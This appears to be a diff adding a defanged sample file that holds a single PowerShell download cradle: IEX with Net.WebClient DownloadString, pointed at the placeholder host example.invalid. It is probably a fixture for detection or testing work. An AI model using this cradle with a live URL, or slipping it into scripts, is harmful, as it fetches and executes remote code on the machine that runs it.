@@ -1,0 +1,2 @@
+# Defanged sample: PowerShell download cradle.
+IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')
